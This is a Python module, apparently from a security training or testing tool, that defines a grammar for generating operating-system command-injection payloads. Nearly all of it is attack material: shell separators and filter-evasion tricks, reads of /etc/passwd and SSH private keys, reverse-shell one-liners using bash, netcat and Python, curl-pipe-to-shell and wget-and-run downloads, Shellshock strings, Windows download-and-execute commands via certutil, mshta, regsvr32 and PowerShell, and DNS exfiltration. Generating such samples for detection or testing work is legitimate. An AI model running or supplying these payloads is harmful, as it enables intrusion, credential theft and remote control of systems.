"""Operating-system commands: separators, substitutions, and what is run; with and without metacharacters."""

from portcullis_train.attack.expand import Grammar

TABLES = {
    "lead": ["", "", "", "«num»", "«word»", "«ip»", "«host»", "«word».txt", "-«n»", "\"", "'", "$", "/«word»/«word»", "{}", "«word»@«host»"],
    "sep": [";", "; ", "|", " | ", "||", " || ", "&&", " && ", "&", " & ", "\n", "%0a", "\r\n", "|& ", ";;", "';", "\";", "'; ", "\" | ", "') ; ", "`;", "%26%26 "],
    "tail": ["", "", "", "", ";", " #", " ;#", "'", "\"", " &", " |", "||", " -- ", "\n", " 2>&1", " > /dev/null", " ; echo «word»"],
    "ifs": ["${IFS}", "$IFS", "$IFS$9", "{,}", "<", "\t", "%09", "${IFS%??}"],
    "bin": ["cat", "c''at", "c\\at", "ca$@t", "/bin/cat", "/bin/c?t", "/???/??t", "c\"\"at", "tac", "nl", "head", "more", "less", "od", "xxd", "strings", "rev", "sort"],
    "path": ["«file»", "/e't'c/pa'ss'wd", "/e?c/p?sswd", "/etc/pass*", "/etc/pas\\swd", "/???/passwd", "$HOME/.ssh/id_rsa", "../../../etc/passwd"],
}

GRAMMARS = [Grammar("command-injection", [
    "«lead»«sep»«cmd»«tail»",
    "«lead»«sep»«cmd»«sep»«cmd»",
    "«lead»«sep»«bin»«ifs»«path»«tail»",
    "«lead»«sep»«bin» «path»«tail»",
    "«lead»`«cmd»`",
    "«lead»$(«cmd»)",
    "«lead»\"$(«cmd»)\"",
    "«lead»«sep»{«bin»,«path»}",
    "«lead»«sep»«wincmd»«tail»",
    "«lead»«sep» cmd /c «wincmd»",
    "«lead»«sep»powershell «?-nop »-c \"«wincmd»\"",
    "«lead»$(«bin»«ifs»«path»)",
    "«cmd»",
    "«wincmd»",
    "/bin/sh -c «?'»«cmd»«?'»", "bash -c '«cmd»'", "sh -c \"«cmd»\"", "/usr/bin/env bash -c '«cmd»'",
    "() { :;}; /bin/bash -c '«cmd»'", "() { ignored; }; echo; «cmd»", "() { _; } >_[$($())] { «cmd»; }",
    "bash -i >& /dev/tcp/«ip»/«port» 0>&1",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc «ip» «port» >/tmp/f",
    "python«?3» -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"«ip»\",«port»));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'",
    "curl «?-fsSL »http«?s»://«target»/«word».sh | «bash¦sh¦sudo bash»",
    "wget http://«target»/«word» -O /tmp/«word»; chmod 777 /tmp/«word»; /tmp/«word»",
    "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | «sh¦bash»",
    "«lead»«sep»eval \"«bin» «path»\"", "«word»=«bin»;$«word» «path»", "«lead»«sep»exec «cmd»", "«lead»«sep»nohup «cmd» &",
    "perl -e 'system(\"«cmd»\")'", "ruby -e 'exec \"«cmd»\"'", "«lead»|«bin» «path»|base64", "«lead» -o ProxyCommand=«cmd»",
    "--output=/tmp/«word» --use-askpass=«cmd»", "--checkpoint-action=exec=«cmd»", "@«path»", "«lead»%0a«cmd»%0a", "x=$'\\x63\\x61\\x74';$x «path»",
    "busybox nc «ip» «port» -e sh", "certutil -urlcache -split -f http://«target»/«word».exe", "mshta http://«host»/«word».hta", "regsvr32 /s /n /u /i:http://«target»/«word».sct scrobj.dll",
    "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"", "bitsadmin /transfer «word» http://«target»/«word» %TEMP%\\«word»", "IEX(New-Object Net.WebClient).DownloadString('http://«target»/«word».ps1')",
    "wmic process call create \"«wincmd»\"", "cmd.exe /c «wincmd» && «wincmd»", "for /f %i in ('whoami') do nslookup %i.«host»",
], TABLES)]
